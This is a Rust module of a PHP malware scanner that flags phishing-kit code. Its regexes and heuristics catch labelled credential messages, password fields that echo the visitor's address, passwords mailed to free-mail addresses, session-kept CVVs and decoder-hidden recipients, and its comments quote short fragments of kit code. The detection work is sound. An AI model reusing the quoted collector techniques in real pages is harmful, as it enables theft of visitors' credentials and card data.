//! What phishing pages and collectors do with a visitor's credentials: the request fields kept
//! in variables, the literals that label them, and a login page that greets the visitor with
//! the address its link carried; and a recipient hidden from a reader (a skimmer's).

use std::sync::LazyLock;

use regex::bytes::Regex;

use super::super::input::{CREDENTIAL_KEY, CREDENTIAL_LABEL, SECRET_KEY, SECRET_LABEL, is_request};
use super::super::tokens::{is_op, str_value};
use super::MAX_LITERAL_VARS;
use crate::php::{Tok, Token};

/// The most variables holding credentials that are followed.
const MAX_CREDENTIAL_VARS: usize = 32;
/// The longest literal read for labelled fields (a collector's whole message, one line per
/// field, set in HTML).
const MAX_MESSAGE: usize = 2048;

/// A password field in the page (also inside PHP strings, with escaped quotes).
pub(super) static PASSWORD_INPUT: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?i-u)<input\b[^>]{0,400}?\btype\s*=\s*\\?["']?password\b"#).expect("pattern compiles")
});

/// A field's value printed from PHP without escaping: `value="<?=$x?>"`,
/// `value="<?php echo $_GET['email']; ?>"`. The captures: the request array and its key, or
/// the variable.
pub(super) static ECHOED_VALUE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(concat!(
        r#"(?i-u)\bvalue\s*=\s*["']?\s*<\?(?:=|php\s+echo\b|\s*echo\b|php\s+print\b)\s*@?"#,
        r#"(?:\$_(GET|REQUEST)\s*\[\s*["']?([a-z0-9_-]{1,32})|\$([a-z_][a-z0-9_]{0,40}))\s*["']?\s*\]?\s*;?\s*\?>"#,
    ))
    .expect("pattern compiles")
});

/// A field that holds who the visitor is (what a lure's link carries).
pub(super) static WHO_KEY: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?i-u)mail|user|login|^(?:e|em|u|id|to)$|^acc").expect("pattern compiles"));

/// A variable that holds a field of the request, and whether it is a secret.
pub(super) struct CredVar<'a> {
    name: &'a [u8],
    secret: bool,
    /// The field's or the variable's name says it holds a credential; when not (`$c =
    /// $_POST['f3']`), only a label naming a credential in front of it says so.
    named: bool,
    /// The field's (or else the variable's) name is a password's or a one-time code's, word
    /// for word (`password`, `user_pass`, `otp`; not `passengers` nor `passport`).
    strict: bool,
}

/// A password's or a one-time code's field name, word for word.
static STRICT_SECRET: LazyLock<Regex> = LazyLock::new(|| {
    // (Not `pin`: an order form's `pin_code` is India's postal code.)
    // (A social security number neither: fresh107's bank kit sends `ssn` to Telegram.)
    // (But a field named `pin` alone is a card's, and `sms` or `smscode` a bank's code sent by
    // text: fresh115's Correos kit.)
    // (And a wallet's secret words or key: `phrase`, `seed`, `mnemonic`, `private_key`.)
    Regex::new(concat!(
        r"(?i-u)password|passwd|two_?fact|2fa|(?:^|[_-])(?:pass|pwd|pw|otp|cvv|cvc|ssn)(?:$|[_-])|^(?:pin|sms|sms_?code)$",
        r"|phrase|mnemonic|^seed(?:$|[_-])|private_?key|verif(?:ication|y)?_?code",
    ))
        .expect("pattern compiles")
});

/// Box-drawing marks a message's tree of values is drawn with (`├`, `└`, `│`), each three bytes.
const TREE_MARKS: [&[u8]; 3] = ["├".as_bytes(), "└".as_bytes(), "│".as_bytes()];

/// Whether a label stands in front of a value (`"*Code:* `"`, `"Pass = "`): a message's line,
/// not the bare value put in a text (`sha1("$password" . SALT)`).
fn labels_a_value(label: &[u8]) -> bool {
    // The marks after the label: spaces, Markdown's, and HTML tags (`<b>OTP:</b> <code>`).
    let mut end = label;
    loop {
        let before = end.len();
        end = &end[..end.len()
            - end.iter().rev().take_while(|b| matches!(b, b'*' | b'_' | b'`' | b'~' | b'{' | b' ' | b'\t')).count()];
        if end.last() == Some(&b'>')
            && let Some(open) = end.iter().rposition(|b| *b == b'<')
            && end.len() - open <= 40
        {
            end = &end[..open];
        }
        if end.len() == before {
            break;
        }
    }
    // A branch of a tree under its heading (`🕹️ Code:` then `└ <code>{$otp}</code>` on the
    // next line, fresh164's Netflix kit): the label is the line above.
    if !end.trim_ascii().is_empty() && end.trim_ascii().chunks(3).all(|c| TREE_MARKS.contains(&c)) {
        return true;
    }
    // `Pass:`, `Pass =`, `OTP -`, `OTP ➜`, `OTP »`.
    let arrow = end.ends_with("➜".as_bytes()) || end.ends_with("»".as_bytes()) || end.ends_with("→".as_bytes());
    let (mark, rest) = if arrow {
        (true, &end[..end.len().saturating_sub(3)])
    } else {
        (
            matches!(end.last(), Some(b':' | b'=' | b'-' | b'>')),
            end.get(..end.len().saturating_sub(1)).unwrap_or_default(),
        )
    };
    mark && rest.iter().any(|b| b.is_ascii_alphabetic() || *b >= 0x80)
}

/// Variables assigned a credential field of the request (`$p = trim($_POST['passwd'])`), or
/// a request field under a credential's name (`$password = $_POST['2']`); a field a kit
/// carried over from its previous page in the session counts as the request's. Variables
/// assigned any other request field are kept too, unnamed: a label in front of one says what
/// it holds (`"CVV: $f3"`).
pub(super) fn credential_vars<'a>(t: &[Token<'a>]) -> Vec<CredVar<'a>> {
    let mut out: Vec<CredVar<'a>> = Vec::new();
    let (mut named, mut unnamed) = (0, 0);
    for (v, key) in request_assignments(t) {
        if named + unnamed >= 2 * MAX_CREDENTIAL_VARS {
            break;
        }
        if out.iter().any(|c| c.name == v) {
            continue;
        }
        let by_key = !key.is_empty() && CREDENTIAL_KEY.is_match(key);
        if by_key || CREDENTIAL_KEY.is_match(v) {
            if named < MAX_CREDENTIAL_VARS {
                let secret = if by_key { SECRET_KEY.is_match(key) } else { SECRET_KEY.is_match(v) };
                let strict = STRICT_SECRET.is_match(if by_key { key } else { v });
                out.push(CredVar { name: v, secret, named: true, strict });
                named += 1;
            }
        } else if unnamed < MAX_CREDENTIAL_VARS {
            out.push(CredVar { name: v, secret: false, named: false, strict: false });
            unnamed += 1;
        }
    }
    out
}

/// Tokens of an assignment's right side looked at for a request field (to the end of the
/// statement).
const RHS_TOKENS: usize = 16;

/// A request field read: `$_POST[`, `$_GET[`, `$_REQUEST[`, `$_SESSION[`.
fn is_field_read(t: &[Token<'_>], k: usize) -> bool {
    matches!(t[k].tok, Tok::Var(b"_POST" | b"_GET" | b"_REQUEST" | b"_SESSION")) && is_op(t.get(k + 1), b"[")
}

/// The key of a request field read at token `k` (`$_POST['pass']`, or `filter_input(INPUT_POST,
/// 'card', …)` as fresh115's Correos kit reads its form): the literal, or empty when it is none.
/// (Asked of every token: a name's length answers for nearly all.)
#[inline(always)]
fn field_read_key<'a>(t: &[Token<'a>], k: usize) -> Option<&'a [u8]> {
    match t[k].tok {
        Tok::Var(_) => return is_field_read(t, k).then(|| key_at(t, k + 2)),
        Tok::Ident(f) if f.len() == 12 && f.eq_ignore_ascii_case(b"filter_input") => {}
        _ => return None,
    }
    let filtered = is_op(t.get(k + 1), b"(")
        && matches!(
            t.get(k + 2).map(|x| x.tok),
            Some(Tok::Ident(b"INPUT_POST" | b"INPUT_GET" | b"INPUT_REQUEST" | b"INPUT_COOKIE"))
        )
        && is_op(t.get(k + 3), b",");
    filtered.then(|| key_at(t, k + 4))
}

/// The literal key at token `k` (`$_POST['pass']`), or nothing.
fn key_at<'a>(t: &[Token<'a>], k: usize) -> &'a [u8] {
    match t.get(k).map(|x| x.tok) {
        Some(Tok::Str(quoted) | Tok::Backtick(quoted)) => quoted.value,
        _ => b"",
    }
}

/// Assignments to a variable whose right side, within `RHS_TOKENS` tokens and before the
/// statement ends, reads a request field, in the file's order: the variable and the first
/// such field's key (empty when it is not a literal). Found from the reads, which are few,
/// not from every assignment.
fn request_assignments<'a>(t: &[Token<'a>]) -> Vec<(&'a [u8], &'a [u8])> {
    let mut found: Vec<(usize, &'a [u8], &'a [u8])> = Vec::new();
    for k in 2..t.len() {
        let Some(key) = field_read_key(t, k) else { continue };
        // Each assignment `t[i] = …` with `k` on its right side and nothing before `k` there
        // that ends the statement or reads another field.
        for i in (k.saturating_sub(RHS_TOKENS + 1)..=k - 2).rev() {
            let added = i + 2;
            if added < k
                && (is_op(Some(&t[added]), b";")
                    || matches!(t[added].tok, Tok::Close)
                    || field_read_key(t, added).is_some())
            {
                break;
            }
            if let Tok::Var(v) = t[i].tok
                && is_op(t.get(i + 1), b"=")
                && !is_request(v)
            {
                found.push((i, v, key));
            }
        }
    }
    found.sort_unstable_by_key(|f| f.0);
    found.into_iter().map(|(_, v, key)| (v, key)).collect()
}

/// A free mail service's address (`x@gmail.com`): where thieves have stolen passwords sent; a
/// site mails its own domain's addresses or those its users typed.
static FREE_MAIL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i-u)^[a-z0-9._%+-]+@(?:gmail|googlemail|yahoo|hotmail|outlook|live|aol|yandex|mail\.ru|proton(?:mail)?|icloud|gmx)\.[a-z.]{2,6}$")
        .expect("pattern compiles")
});

/// `mail('thief@gmail.com', …, "Username : $username\nPassword : $password")`, by the call's
/// arguments: a password labelled in a mail to a free mail service's address written in the
/// code (a backdoored login, whatever the password's variable is: a method's parameter as well
/// as a form's field).
pub(super) fn mails_password_to_free_address(args: &[&[Token<'_>]]) -> bool {
    let Some([to]) = args.first().map(|a| &a[..]) else { return false };
    if !str_value(to).is_some_and(|v| FREE_MAIL.is_match(v)) {
        return false;
    }
    args.iter().skip(1).any(|a| {
        a.iter().enumerate().any(|(k, y)| match y.tok {
            // `"Password : " . $password`, or `"Password : $password"`.
            Tok::Str(quoted) => {
                let joined = is_op(a.get(k + 1), b".") && matches!(a.get(k + 2).map(|z| z.tok), Some(Tok::Var(_)));
                (joined && label_names_password(quoted.value))
                    || quoted.vars.iter().any(|v| SECRET_KEY.is_match(v) && PASSWORD_WORD.is_match(quoted.value))
            }
            _ => false,
        })
    })
}

/// A password's label or name (`Password :`, `pass=`, `Senha:`).
static PASSWORD_WORD: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?i-u)pass|pwd|senha|contrase|kennwort|wachtwoord|haslo").expect("pattern compiles"));

fn label_names_password(label: &[u8]) -> bool {
    let last = label.rsplit(|b| *b == b'\n').next().unwrap_or(label);
    CREDENTIAL_LABEL.is_match(last) && PASSWORD_WORD.is_match(last)
}

/// Whether a label (the end of a literal) names a secret, for a field whose own name does not.
fn label_names_secret(label: &[u8]) -> bool {
    let last = label.rsplit(|b| *b == b'\n').next().unwrap_or(label);
    SECRET_KEY.is_match(last) || SECRET_LABEL.is_match(last)
}

pub(super) fn find<'c, 'a>(creds: &'c [CredVar<'a>], v: &[u8]) -> Option<&'c CredVar<'a>> {
    creds.iter().find(|c| c.name == v)
}

/// Whether an argument reads one of the credential variables (named as one).
pub(super) fn reads(arg: &[Token<'_>], creds: &[CredVar<'_>]) -> bool {
    let named = |v: &[u8]| find(creds, v).is_some_and(|c| c.named);
    arg.iter().any(|x| match &x.tok {
        Tok::Var(v) => named(v),
        Tok::Str(quoted) => quoted.vars.iter().any(|v| named(v)),
        _ => false,
    })
}

pub(super) fn reads_request(arg: &[Token<'_>]) -> bool {
    arg.iter().any(|x| match &x.tok {
        Tok::Var(v) => is_request(v),
        Tok::Str(quoted) => quoted.vars.iter().any(|v| is_request(v)),
        _ => false,
    })
}

/// Credential variables pasted after a label in the literal at `i`: `"Pass: " . $p`,
/// `"User: $u\nPass: $p"`, or the request's (or the session's) fields themselves:
/// `"Pass: {$_POST['pass']}"`.
#[derive(Default)]
pub(super) struct Labelled {
    /// How many.
    pub(super) lines: u8,
    /// Whether one is a secret.
    pub(super) secret: bool,
    /// Whether a variable named for a secret (`$password = $_POST['password']`) is pasted in,
    /// labelled or not (`"*Code:* `{$otp}`"`).
    pub(super) carries_secret: bool,
}

pub(super) fn labelled(
    t: &[Token<'_>],
    i: usize,
    value: &[u8],
    raw: &[u8],
    vars: &[&[u8]],
    creds: &[CredVar<'_>],
) -> Labelled {
    let fields = vars.iter().any(|v| is_field_array(v));
    let field_follows =
        is_op(t.get(i + 1), b".") && matches!(t.get(i + 2).map(|x| &x.tok), Some(Tok::Var(a)) if is_field_array(a));
    if (creds.is_empty() && !fields && !field_follows) || raw.len() > MAX_MESSAGE {
        return Labelled::default();
    }
    let (mut lines, mut secret) = (0u8, false);
    let mut carries_secret = false;
    let mut count = |label: &[u8], named: Option<bool>| {
        if CREDENTIAL_LABEL.is_match(label) {
            lines = lines.saturating_add(1);
            secret |= named.unwrap_or_else(|| label_names_secret(label));
        }
    };
    // Interpolated: `$name` after a label.
    for v in vars {
        let Some(c) = find(creds, v) else { continue };
        let mut from = 0;
        while let Some(p) = memchr::memchr(b'$', &raw[from..]).map(|p| p + from) {
            let name = &raw[p + 1..];
            let name = name.strip_prefix(b"{").unwrap_or(name);
            let follows = name.starts_with(c.name)
                && name.get(c.name.len()).is_none_or(|b| !(b.is_ascii_alphanumeric() || *b == b'_'));
            if follows {
                let label = label_before(raw, p);
                count(label, c.named.then_some(c.secret));
                carries_secret |= c.strict && labels_a_value(label);
                break;
            }
            from = p + 1;
        }
    }
    // Request fields interpolated in braces: `{$_POST['pass']}`, `{$_SESSION['cvv']}`. (Without
    // braces, `"Pass: $_POST[pass]"`, they are `input::credential_line`'s.)
    if fields {
        let mut from = 0;
        while let Some(p) = memchr::memchr(b'$', &raw[from..]).map(|p| p + from) {
            from = p + 1;
            if p == 0 || raw[p - 1] != b'{' {
                continue;
            }
            let after = &raw[p + 1..];
            let Some(array) =
                [&b"_POST"[..], b"_GET", b"_REQUEST", b"_SESSION"].into_iter().find(|a| after.starts_with(a))
            else {
                continue;
            };
            let Some(rest) = after[array.len()..].strip_prefix(b"[") else { continue };
            let Some(close) = memchr::memchr(b']', &rest[..rest.len().min(40)]) else { continue };
            let quote = |b: &u8| matches!(b, b'\'' | b'"' | b' ');
            let key = &rest[..close];
            let key = &key[key.iter().position(|b| !quote(b)).unwrap_or(key.len())..];
            let key = &key[..key.iter().rposition(|b| !quote(b)).map_or(0, |e| e + 1)];
            let named = CREDENTIAL_KEY.is_match(key).then(|| SECRET_KEY.is_match(key));
            let label = label_before(raw, p);
            count(label, named);
            carries_secret |= STRICT_SECRET.is_match(key) && labels_a_value(label);
        }
    }
    // Concatenated: `"Pass: " . $p`. (`"Pass: " . $_POST['p']` is `input::credential_line`'s.)
    if let (true, Some(Token { tok: Tok::Var(v), .. })) = (is_op(t.get(i + 1), b"."), t.get(i + 2))
        && let Some(c) = find(creds, v)
    {
        count(value, c.named.then_some(c.secret));
        carries_secret |= c.strict && labels_a_value(value);
    }
    // `"Password: " . $_POST['password']` (counted by `input::credential_line`), carried.
    if field_follows
        && is_op(t.get(i + 3), b"[")
        && t.get(i + 4).and_then(str_value).is_some_and(|k| STRICT_SECRET.is_match(k))
    {
        carries_secret |= labels_a_value(value);
    }
    Labelled { lines, secret, carries_secret }
}

/// Whether a field's name holds a card's security code or a social security number as a word
/// of its own (`cvv`, `card_cvc`, `cardCvv`, `CVV2`, `ssn_last4`; not `htaccessnew`).
fn names_card_code(key: &[u8]) -> bool {
    const WORDS: [&[u8]; 4] = [b"cvv", b"cvc", b"csc", b"ssn"];
    let edge = |b: u8| matches!(b, b'_' | b'-' | b'0'..=b'9');
    (0..key.len().saturating_sub(2)).any(|p| {
        let starts = p == 0 || edge(key[p - 1]) || (key[p].is_ascii_uppercase() && key[p - 1].is_ascii_lowercase());
        let ends = key.get(p + 3).is_none_or(|&b| edge(b) || b.is_ascii_uppercase());
        starts && ends && WORDS.iter().any(|w| key[p..p + 3].eq_ignore_ascii_case(w))
    })
}

/// Where a page reads a card's security code or a social security number from its form and
/// keeps what it is sent in the visitor's session for its next page (fresh115's USPS and
/// Discover kits): a shop hands a card's code on to its payment service and never keeps it,
/// and none of 273,100 files of applications reads one.
pub(super) fn keeps_card_code(text: &[u8], t: &[Token<'_>]) -> Option<usize> {
    static CARD_CODE: LazyLock<Regex> =
        LazyLock::new(|| Regex::new(r"(?i-u)cvv|cvc|csc|ssn").expect("pattern compiles"));
    if !CARD_CODE.is_match(text) {
        return None;
    }
    let read = (0..t.len()).find(|&k| {
        matches!(t[k].tok, Tok::Var(b"_POST" | b"_REQUEST" | b"_GET"))
            && is_op(t.get(k + 1), b"[")
            && t.get(k + 2).and_then(str_value).is_some_and(names_card_code)
    })?;
    let kept = (0..t.len()).any(|k| {
        matches!(t[k].tok, Tok::Var(b"_SESSION"))
            && is_op(t.get(k + 1), b"[")
            && (k + 2..t.len().min(k + 8)).find(|&j| is_op(t.get(j), b"]")).is_some_and(|j| is_op(t.get(j + 1), b"="))
    });
    kept.then_some(t[read].at)
}

/// The arrays whose fields a visitor typed into the kit's forms.
fn is_field_array(v: &[u8]) -> bool {
    matches!(v, b"_POST" | b"_GET" | b"_REQUEST" | b"_SESSION")
}

/// The label in front of an interpolated variable starting at `p` in a literal as written:
/// back to the line's start (a new line, an escape other than a tab, or the variable before).
fn label_before(raw: &[u8], p: usize) -> &[u8] {
    let mut start = 0;
    for k in (0..p).rev() {
        let b = raw[k];
        if b == b'\n' || b == b'$' {
            start = k + 1;
            break;
        }
        if b == b'\\' && raw.get(k + 1) != Some(&b't') {
            // (After the escape's letter: `\n└ ` is the branch mark alone.)
            start = (k + 2).min(p);
            break;
        }
    }
    // `{$p}`: the brace is not part of the label.
    let end = if raw[..p].ends_with(b"{") { p - 1 } else { p };
    &raw[start..end.max(start)]
}

/// A login form with a password field that shows the visitor's address from the link
/// unescaped (directly or through a variable assigned from `$_GET`/`$_REQUEST`).
pub(super) fn phishing_page(text: &[u8], t: &[Token<'_>]) -> Option<usize> {
    // The word first (most files have none), then the field.
    memchr::memmem::find(text, b"assword").or_else(|| memchr::memmem::find(text, b"ASSWORD"))?;
    let password = PASSWORD_INPUT.find(text)?;
    for c in ECHOED_VALUE.captures_iter(text).take(64) {
        let at = c.get(0).map_or(password.start(), |m| m.start());
        if let Some(key) = c.get(2) {
            if WHO_KEY.is_match(key.as_bytes()) {
                return Some(at);
            }
        } else if let Some(var) = c.get(3)
            && from_link(t, var.as_bytes())
        {
            return Some(at);
        }
    }
    None
}

/// Whether the variable is assigned who the visitor is from the link (`$_GET`, `$_REQUEST`;
/// the field or the variable named like an address or a user), also decoded
/// (`base64_decode($_GET['e'])`), and never escaped.
pub(super) fn from_link(t: &[Token<'_>], var: &[u8]) -> bool {
    let mut from_get = false;
    let mut who = WHO_KEY.is_match(var);
    for (i, x) in t.iter().enumerate() {
        let Tok::Var(v) = x.tok else { continue };
        if v != var || !is_op(t.get(i + 1), b"=") {
            continue;
        }
        let rhs = &t[i + 2..t.len().min(i + 18)];
        for (k, y) in rhs.iter().enumerate().take_while(|(_, y)| !is_op(Some(y), b";") && !matches!(y.tok, Tok::Close))
        {
            match y.tok {
                Tok::Var(b"_GET" | b"_REQUEST") => {
                    from_get = true;
                    who |= rhs.get(k + 2).and_then(str_value).is_some_and(|key| WHO_KEY.is_match(key));
                }
                Tok::Ident(n) if is_escaper(n) => return false,
                _ => {}
            }
        }
    }
    from_get && who
}

pub(super) fn is_escaper(n: &[u8]) -> bool {
    [&b"htmlspecialchars"[..], b"htmlentities", b"esc_attr", b"esc_html", b"strip_tags", b"filter_var", b"intval"]
        .iter()
        .any(|e| n.eq_ignore_ascii_case(e))
}

/// Decoders that hide a text in the code.
const DECODERS: &[&[u8]] = &[
    b"base64_decode",
    b"str_rot13",
    b"strrev",
    b"hex2bin",
    b"gzinflate",
    b"gzuncompress",
    b"convert_uudecode",
    b"chr",
    b"pack",
];

/// Pieces of a table joined (`$t[6] . $t[7] . …`) that make a text assembled letter by letter.
const MANY_PIECES: usize = 4;

/// Whether an expression decodes a text or assembles it from a table's pieces, or reads a
/// variable assigned so (`hidden`).
pub(super) fn hides_text(e: &[Token<'_>], hidden: &[&[u8]]) -> bool {
    let (decoded, pieces) = hiding(e, hidden);
    decoded || pieces >= MANY_PIECES
}

/// Whether an expression decodes a text, or reads a variable assigned a hidden text (`hidden`):
/// an address joined from a table's parts (`$url['scheme'] . '://' . $url['host']`) is not.
pub(super) fn decodes_text(e: &[Token<'_>], hidden: &[&[u8]]) -> bool {
    hiding(e, hidden).0
}

/// Whether `e` decodes (or reads a hidden variable), and how many table pieces it joins.
fn hiding(e: &[Token<'_>], hidden: &[&[u8]]) -> (bool, usize) {
    let mut pieces = 0;
    for (k, x) in e.iter().enumerate() {
        match x.tok {
            Tok::Ident(n) if is_op(e.get(k + 1), b"(") && DECODERS.iter().any(|d| n.eq_ignore_ascii_case(d)) => {
                return (true, pieces);
            }
            Tok::Var(v) if hidden.contains(&v) => return (true, pieces),
            Tok::Op(b"]") if is_op(e.get(k + 1), b".") => pieces += 1,
            _ => {}
        }
    }
    (false, pieces)
}

/// Variables assigned a decoded or assembled text (`$to = base64_decode('…')`).
pub(super) fn hidden_vars<'a>(t: &[Token<'a>]) -> Vec<&'a [u8]> {
    let mut out: Vec<&'a [u8]> = Vec::new();
    for (i, x) in t.iter().enumerate() {
        let Tok::Var(v) = x.tok else { continue };
        if !is_op(t.get(i + 1), b"=") || out.len() >= MAX_LITERAL_VARS || out.contains(&v) {
            continue;
        }
        let end = t[i + 2..].iter().take(128).position(|y| is_op(Some(y), b";") || matches!(y.tok, Tok::Close));
        let rhs = &t[i + 2..i + 2 + end.unwrap_or(0)];
        if hides_text(rhs, &out) {
            out.push(v);
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The assignments as first written: every assignment's right side read forward.
    fn forward<'a>(t: &[Token<'a>]) -> Vec<(&'a [u8], &'a [u8])> {
        let mut out = Vec::new();
        for (i, tok) in t.iter().enumerate() {
            let Tok::Var(v) = tok.tok else { continue };
            if !is_op(t.get(i + 1), b"=") || is_request(v) {
                continue;
            }
            let rhs = t[i + 2..]
                .iter()
                .take(RHS_TOKENS)
                .take_while(|x| !is_op(Some(x), b";") && !matches!(x.tok, Tok::Close));
            for (k, _) in (i + 2..).zip(rhs) {
                if let Some(key) = field_read_key(t, k) {
                    out.push((v, key));
                    break;
                }
            }
        }
        out
    }

    #[test]
    fn assignments_found_from_the_reads_are_those_found_from_the_assignments() {
        let pieces = [
            "$a = ",
            "$b = ",
            "$_POST['pass']",
            "$_GET[$k]",
            "$_SESSION['u']",
            "$_COOKIE['c']",
            "trim(",
            ")",
            ";",
            " . ",
            "'x'",
            "$c",
            "?>",
            "<?php ",
            "[",
            "]",
            ", ",
            "$_REQUEST['card'] ",
            "$GLOBALS = ",
            "$d=$e=",
        ];
        let mut seed = 0x2545_f491_4f6c_dd1d_u64;
        let mut found = 0;
        for _ in 0..4000 {
            let mut src = String::from("<?php ");
            let n = (seed % 60) as usize + 1;
            for _ in 0..n {
                seed ^= seed << 13;
                seed ^= seed >> 7;
                seed ^= seed << 17;
                src.push_str(pieces[(seed % pieces.len() as u64) as usize]);
            }
            let arena = crate::php::Arena::new();
            let t = crate::php::tokenize(src.as_bytes(), &arena, 10_000);
            let fields = request_assignments(&t);
            assert_eq!(fields, forward(&t), "{src}");
            found += fields.len();
        }
        // (The texts hold such assignments, not only near-misses.)
        assert!(found > 2000, "{found}");
    }
}
